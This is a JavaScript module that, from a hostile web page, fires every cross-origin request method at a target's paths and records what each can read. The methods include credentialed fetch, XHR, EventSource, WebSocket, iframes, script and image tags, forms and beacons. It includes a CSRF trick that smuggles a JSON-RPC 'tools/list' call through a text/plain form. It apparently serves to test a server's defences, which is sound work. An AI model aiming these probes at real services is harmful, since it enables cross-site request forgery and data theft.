// attacks runs inside a hostile page: every way in which one can ask another server for something.
// It returns what each of them could read.
export async function attacks({ target, paths }) {
  const got = [];
  const limit = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 1500))]);
  const note = (how, path, read, status) => got.push({ how, path, read: read || '', status });
  const whole = (path) => target + path;
  const body = 'csrf=x&url=http://127.0.0.1:9/&text=hostile&to=15550100123';
  const rpc = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list', params: {} });

  const byFetch = async (how, path, options) => {
    try {
      const r = await fetch(whole(path), { credentials: 'include', ...options });
      const reader = r.body?.getReader();
      const first = reader ? await limit(reader.read()) : null;
      reader?.cancel().catch(() => {});
      note(how, path, first?.value ? new TextDecoder().decode(first.value) : '', r.status);
    } catch { note(how, path); }
  };
  const byXHR = (path) => limit(new Promise((resolve) => {
    const x = new XMLHttpRequest();
    x.open('GET', whole(path));
    x.withCredentials = true;
    x.onprogress = x.onloadend = () => { note('xhr', path, x.responseText, x.status); x.abort(); resolve(); };
    x.send();
  }));
  const byEventSource = (path) => limit(new Promise((resolve) => {
    const s = new EventSource(whole(path), { withCredentials: true });
    const end = (read) => { s.close(); note('eventsource', path, read); resolve(); };
    s.onmessage = (e) => end(e.data);
    for (const name of ['part', 'overview', 'message', 'head', 'event']) s.addEventListener(name, (e) => end(e.data));
    s.onopen = () => setTimeout(() => end('it is open'), 500);
    s.onerror = () => end('');
  }));
  const byWebSocket = (path) => limit(new Promise((resolve) => {
    const s = new WebSocket(whole(path).replace('http', 'ws'));
    s.onopen = () => { s.close(); note('websocket', path, 'it is open'); resolve(); };
    s.onerror = () => { note('websocket', path); resolve(); };
  }));
  const byFrame = (path) => limit(new Promise((resolve) => {
    const f = document.createElement('iframe');
    f.src = whole(path);
    f.onload = () => {
      let read = '';
      try { read = f.contentDocument?.body?.innerText ?? ''; } catch { /* it cannot be looked into */ }
      f.remove();
      note('frame', path, read, 403);
      resolve();
    };
    document.body.append(f);
  }));
  const byElement = (how, tag, attribute, path) => limit(new Promise((resolve) => {
    const e = document.createElement(tag);
    if (tag === 'link') e.rel = 'stylesheet';
    const before = Object.keys(window).length;
    e.onload = () => { note(how, path, tag === 'script' && Object.keys(window).length > before ? 'it ran' : ''); resolve(); };
    e.onerror = () => { note(how, path); resolve(); };
    e[attribute] = whole(path);
    document.body.append(e);
  }));
  const byForm = (path, kind) => limit(new Promise((resolve) => {
    const sink = document.createElement('iframe');
    sink.name = 'sink' + got.length;
    document.body.append(sink);
    const f = document.createElement('form');
    Object.assign(f, { action: whole(path), method: 'post', enctype: kind, target: sink.name });
    for (const [name, value] of new URLSearchParams(body)) f.append(Object.assign(document.createElement('input'), { name, value }));
    f.append(Object.assign(document.createElement('input'), { name: rpc.slice(0, -1) + ',"x":"', value: '"}' }));
    document.body.append(f);
    sink.onload = () => {
      let read = '';
      try { read = sink.contentDocument?.body?.innerText ?? ''; } catch { /* it cannot be looked into */ }
      if (read === '' && sink.contentDocument?.URL === 'about:blank') return; // not yet
      note('form', path, read, 403);
      sink.remove();
      resolve();
    };
    f.submit();
  }));

  for (const path of paths) {
    await Promise.all([
      byFetch('fetch', path, {}),
      byFetch('fetch with a token', path, { headers: { Authorization: 'Bearer x' } }),
      byFetch('fetch without cors', path, { mode: 'no-cors' }),
      byFetch('post', path, { method: 'POST', body, headers: { 'Content-Type': 'application/x-www-form-urlencoded' } }),
      byFetch('post without cors', path, { method: 'POST', mode: 'no-cors', body: rpc, headers: { 'Content-Type': 'text/plain' } }),
      byFetch('post of JSON', path, { method: 'POST', body: rpc, headers: { 'Content-Type': 'application/json' } }),
      byFetch('delete', path, { method: 'DELETE' }),
    ]);
    await Promise.all([byXHR(path), byEventSource(path), byWebSocket(path), byElement('image', 'img', 'src', path), byElement('script', 'script', 'src', path), byElement('style', 'link', 'href', path)]);
    await byFrame(path);
    await byForm(path, 'application/x-www-form-urlencoded');
    await byForm(path, 'text/plain');
    navigator.sendBeacon(whole(path), new Blob([body], { type: 'application/x-www-form-urlencoded' }));
    note('beacon', path);
  }
  return got;
}
